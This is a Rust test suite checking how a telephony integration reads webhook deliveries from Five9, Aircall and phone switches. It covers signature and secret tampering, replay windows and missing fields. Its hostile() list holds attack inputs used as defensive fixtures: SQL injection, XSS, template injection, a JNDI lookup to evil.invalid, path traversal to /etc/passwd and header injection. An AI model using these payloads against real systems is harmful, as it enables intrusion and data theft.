//! What every provider must do with what its phone system, or somebody else, sends: one suite for all of them.
//!
//! A provider joins by a line in [`ALL`]: how a delivery of a ringing or answered call looks, and where its proof is.

use crate::given::{AIRCALL, FIVE9, PLAIN, STANDARD, now, settings};
use base64::Engine as _;
use base64::engine::general_purpose::STANDARD as BASE64;
use callside_core::call::Call;
use callside_core::event::{CallEvent, Event};
use callside_telephony::{Headers, Inbound, Method, Rejection, Route};
use hmac::{Hmac, KeyInit as _, Mac as _};
use jiff::{SignedDuration, Timestamp};
use serde_json::{Value, json};
use sha2::Sha256;

/// A delivery that can be taken apart.
#[derive(Debug, Clone)]
struct Sent {
    query: String,
    headers: Vec<(String, String)>,
    body: Vec<u8>,
}

/// How one provider sends a call with these fields at a moment.
struct Provider {
    name: &'static str,
    route: Route,
    /// Its own field names and good values.
    fields: &'static [(&'static str, &'static str)],
    /// Fields without which it is no event.
    needed: &'static [&'static str],
    send: fn(&[(String, Value)], Timestamp) -> Sent,
    /// Where the proof stands, to be spoilt.
    proof: Proof,
}

enum Proof {
    Query(&'static str),
    Body(&'static str),
    Header(&'static str),
}

const ALL: [Provider; 5] = [
    Provider {
        name: "Five9 web connector",
        route: Route::Five9Connector,
        fields: &[
            ("trigger", "OnCallAccepted"),
            ("call_id", "300000000001234"),
            ("ANI", "4155550134"),
            ("DNIS", "8005550100"),
            ("full_name", "Ana Ruiz"),
            ("start_timestamp", "20260703153012345"),
            ("comments", "wants a refund"),
        ],
        needed: &["call_id"],
        send: |fields, _| {
            let pair = |(name, value): &(String, Value)| format!("{name}={}", encoded(value));
            let query: Vec<_> = fields.iter().map(pair).chain([format!("secret={FIVE9}")]).collect();
            Sent { query: query.join("&"), headers: vec![], body: vec![] }
        },
        proof: Proof::Query(FIVE9),
    },
    Provider {
        name: "Five9 events",
        route: Route::Five9Events,
        fields: &[
            ("event", "call.created"),
            ("callId", "300000000001234"),
            ("ani", "4155550134"),
            ("dnis", "8005550100"),
            ("agentName", "Ana Ruiz"),
            ("timestamp", "2026-07-03T15:30:12Z"),
            ("notes", "wants a refund"),
        ],
        needed: &["event", "callId"],
        send: |fields, _| Sent {
            query: String::new(),
            headers: vec![("authorization".into(), format!("Bearer {FIVE9}"))],
            body: object(fields).to_string().into_bytes(),
        },
        proof: Proof::Header("authorization"),
    },
    Provider {
        name: "Aircall",
        route: Route::Aircall,
        fields: &[
            ("id", "780883160"),
            ("direction", "inbound"),
            ("raw_digits", "+1 415-555-0134"),
            ("started_at", "1783092612"),
            ("missed_call_reason", "abandoned_in_ivr"),
        ],
        needed: &["id"],
        send: |fields, _| {
            let body = json!({
                "resource": "call", "event": "call.created", "timestamp": 1_783_092_612, "token": AIRCALL,
                "data": object(fields),
            });
            Sent { query: String::new(), headers: vec![], body: body.to_string().into_bytes() }
        },
        proof: Proof::Body(AIRCALL),
    },
    Provider {
        name: "Phone switch, Standard Webhooks",
        route: Route::Phone,
        fields: PHONE,
        needed: &["call_id"],
        send: |fields, at| {
            let body = object(fields).to_string();
            let (id, stamp) = ("msg_1", at.as_second().to_string());
            let key = BASE64.decode(STANDARD.trim_start_matches("whsec_")).unwrap();
            let signature = BASE64.encode(mac(&key, format!("{id}.{stamp}.{body}").as_bytes()));
            let headers = [
                ("webhook-id", id.to_owned()),
                ("webhook-timestamp", stamp),
                ("webhook-signature", format!("v1,{signature}")),
            ];
            Sent {
                query: String::new(),
                headers: headers.map(|(name, value)| (name.to_owned(), value)).to_vec(),
                body: body.into_bytes(),
            }
        },
        proof: Proof::Header("webhook-signature"),
    },
    Provider {
        name: "Phone switch, plain signature",
        route: Route::Phone,
        fields: PHONE,
        needed: &["call_id"],
        send: |fields, _| {
            let body = object(fields).to_string();
            let digits: String = mac(PLAIN.as_bytes(), body.as_bytes()).iter().map(|b| format!("{b:02x}")).collect();
            let headers = vec![("x-signature".to_owned(), format!("sha256={digits}"))];
            Sent { query: String::new(), headers, body: body.into_bytes() }
        },
        proof: Proof::Header("x-signature"),
    },
];

const PHONE: &[(&str, &str)] = &[
    ("event", "call.ringing"),
    ("call_id", "sw-1"),
    ("from", "+14155550134"),
    ("to", "+18005550100"),
    ("agent_email", "ana@acme.example"),
    ("timestamp", "2026-07-03T15:30:12Z"),
    ("notes", "wants a refund"),
];

/// Values that have broken somebody's program before.
fn hostile() -> Vec<Value> {
    vec![
        json!(null),
        json!(true),
        json!(-1),
        json!(1e308),
        json!(18_446_744_073_709_551_615_u64),
        json!([]),
        json!({ "a": { "b": [] } }),
        json!(""),
        json!(" \t\n"),
        json!("\u{0}\u{1b}[31m\u{202e}evil\u{202c}\r\nX-Injected: 1"),
        json!("' OR 1=1 --"),
        json!("<img src=x onerror=alert(1)>"),
        json!("{{constructor.constructor('return 1')()}}"),
        json!("${jndi:ldap://evil.invalid/a}"),
        json!("javascript:alert(1)"),
        json!("../../etc/passwd"),
        json!("9".repeat(5_000)),
        json!("é".repeat(300)),
        json!("@Call.ANI@"),
        json!("0000-00-00T00:00:00Z"),
    ]
}

fn mac(key: &[u8], text: &[u8]) -> Vec<u8> {
    let mut mac = Hmac::<Sha256>::new_from_slice(key).unwrap();
    mac.update(text);
    mac.finalize().into_bytes().to_vec()
}

fn encoded(value: &Value) -> String {
    let text = value.as_str().map_or_else(|| value.to_string(), str::to_owned);
    text.bytes().map(|b| format!("%{b:02X}")).collect()
}

fn object(fields: &[(String, Value)]) -> Value {
    Value::Object(fields.iter().cloned().collect())
}

impl Provider {
    fn good(&self) -> Vec<(String, Value)> {
        self.fields.iter().map(|(name, value)| ((*name).to_owned(), json!(value))).collect()
    }

    fn read_at(&self, sent: &Sent, received_at: Timestamp) -> Result<Vec<Event>, Rejection> {
        let headers: Vec<_> = sent.headers.iter().map(|(name, value)| (name.as_str(), value.as_bytes())).collect();
        let method = if self.route == Route::Five9Connector { Method::Get } else { Method::Post };
        let inbound = Inbound {
            method,
            route: self.route,
            query: &sent.query,
            headers: Headers(&headers),
            body: &sent.body,
            received_at,
        };
        callside_telephony::read(&inbound, &settings())
    }

    fn read(&self, fields: &[(String, Value)]) -> Result<Vec<Event>, Rejection> {
        self.read_at(&(self.send)(fields, now()), now())
    }

    fn one(&self, fields: &[(String, Value)]) -> CallEvent {
        let events = self.read(fields).unwrap_or_else(|rejection| panic!("{}: {rejection}", self.name));
        match events.into_iter().next() {
            Some(Event::Call(event)) => event,
            other => panic!("{}: {other:?}", self.name),
        }
    }
}

#[test]
fn a_repeat_is_the_same_event_and_changes_nothing() {
    for provider in &ALL {
        let (first, second) = (provider.one(&provider.good()), provider.one(&provider.good()));
        assert_eq!(first.id, second.id, "{}", provider.name);
        let mut call = Call::begin(&first);
        let once = call.clone();
        call.hear(&second);
        assert_eq!(call, once, "{}", provider.name);
        assert_eq!(
            call.customer_number()
                .map(|n| n.chars().filter(char::is_ascii_digit).collect::<String>())
                .as_deref()
                .map(|n| n.ends_with("4155550134")),
            Some(true),
            "{}",
            provider.name
        );
    }
}

#[test]
fn the_order_of_fields_does_not_matter() {
    for provider in &ALL {
        let mut turned = provider.good();
        turned.reverse();
        let (straight, turned) = (provider.one(&provider.good()), provider.one(&turned));
        assert_eq!(
            (straight.call, straight.what, straight.facts),
            (turned.call, turned.what, turned.facts),
            "{}",
            provider.name
        );
    }
}

#[test]
fn an_absent_field_costs_only_itself_or_is_named() {
    for provider in &ALL {
        for (name, _) in provider.fields {
            let fields: Vec<_> = provider.good().into_iter().filter(|(other, _)| other != name).collect();
            match provider.read(&fields) {
                Ok(events) => {
                    assert!(!provider.needed.contains(name), "{} without {name}", provider.name);
                    assert!(!events.is_empty(), "{} without {name}", provider.name);
                }
                Err(Rejection::Malformed { .. }) => {
                    assert!(provider.needed.contains(name), "{} without {name}", provider.name);
                }
                Err(other) => panic!("{} without {name}: {other}", provider.name),
            }
        }
    }
}

#[test]
fn hostile_values_become_plain_text_or_a_reason() {
    for provider in &ALL {
        for (name, _) in provider.fields {
            for value in hostile() {
                let mut fields = provider.good();
                fields.iter_mut().filter(|(other, _)| other == name).for_each(|(_, slot)| *slot = value.clone());
                let Ok(events) = provider.read(&fields) else { continue };
                for event in events {
                    let Event::Call(event) = event else { continue };
                    let told = format!("{} {name} {value}", provider.name);
                    assert!(!event.call.id().chars().any(char::is_control), "{told}");
                    let facts = &event.facts;
                    let lines = [&facts.customer_number, &facts.company_number, &facts.customer_name, &facts.queue];
                    for line in lines.into_iter().flatten() {
                        assert!(!line.trim().is_empty() && line.chars().count() <= 255, "{told}");
                        assert!(!line.chars().any(char::is_control), "{told}");
                    }
                    for address in [&facts.recording_url, &facts.voicemail_url].into_iter().flatten() {
                        assert!(address.starts_with("http"), "{told}");
                    }
                }
            }
        }
    }
}

#[test]
fn no_proof_with_one_bit_flipped_passes() {
    for provider in &ALL {
        let sent = (provider.send)(&provider.good(), now());
        let whole = match &provider.proof {
            Proof::Query(secret) | Proof::Body(secret) => (*secret).to_owned(),
            Proof::Header(name) => sent.headers.iter().find(|(other, _)| other == name).unwrap().1.clone(),
        };
        let mut tried = 0;
        for at in 0..whole.len() {
            for bit in 0..8 {
                let mut bytes = whole.clone().into_bytes();
                bytes[at] ^= 1 << bit;
                let Ok(spoilt) = String::from_utf8(bytes) else { continue };
                let mut sent = sent.clone();
                match &provider.proof {
                    Proof::Query(secret) => {
                        let written: String = spoilt.bytes().map(|b| format!("%{b:02X}")).collect();
                        sent.query = sent.query.replace(secret, &written);
                    }
                    Proof::Body(secret) => {
                        let body = String::from_utf8(sent.body).unwrap();
                        let written = json!(spoilt).to_string();
                        sent.body = body.replace(&format!("\"{secret}\""), &written).into_bytes();
                    }
                    Proof::Header(name) => {
                        for (other, value) in &mut sent.headers {
                            if other == name {
                                value.clone_from(&spoilt);
                            }
                        }
                    }
                }
                tried += 1;
                // A scheme is read in any case, so the bit of its case changes nothing that anybody signs.
                let same = whole.eq_ignore_ascii_case(&spoilt) && spoilt.ends_with(FIVE9);
                let taken = provider.read_at(&sent, now());
                assert!(taken.is_err() || same, "{}: byte {at}, bit {bit}", provider.name);
            }
        }
        assert!(tried > 100, "{}", provider.name);
    }
}

#[test]
fn a_body_with_one_bit_flipped_passes_nowhere_that_signs() {
    for provider in ALL.iter().filter(|provider| provider.name.starts_with("Phone switch")) {
        let sent = (provider.send)(&provider.good(), now());
        for at in 0..sent.body.len() {
            for bit in 0..8 {
                let mut spoilt = sent.clone();
                spoilt.body[at] ^= 1 << bit;
                assert_eq!(provider.read_at(&spoilt, now()), Err(Rejection::BadSignature), "byte {at}, bit {bit}");
            }
        }
    }
}

#[test]
fn a_signed_delivery_is_taken_for_five_minutes_both_ways() {
    let signed = ALL.iter().find(|provider| provider.name.ends_with("Standard Webhooks")).unwrap();
    for (seconds, taken) in [(0, true), (299, true), (300, true), (301, false), (-299, true), (-301, false)] {
        let sent = (signed.send)(&signed.good(), now());
        let late = signed.read_at(&sent, now() + SignedDuration::from_secs(seconds));
        assert_eq!(late.is_ok(), taken, "{seconds} s: {late:?}");
    }
    // Where the time is not signed, age proves nothing: Aircall sends again for twelve hours.
    for provider in ALL.iter().filter(|provider| !provider.name.ends_with("Standard Webhooks")) {
        let sent = (provider.send)(&provider.good(), now());
        let late = provider.read_at(&sent, now() + SignedDuration::from_hours(11));
        assert!(late.is_ok(), "{}: {late:?}", provider.name);
    }
}
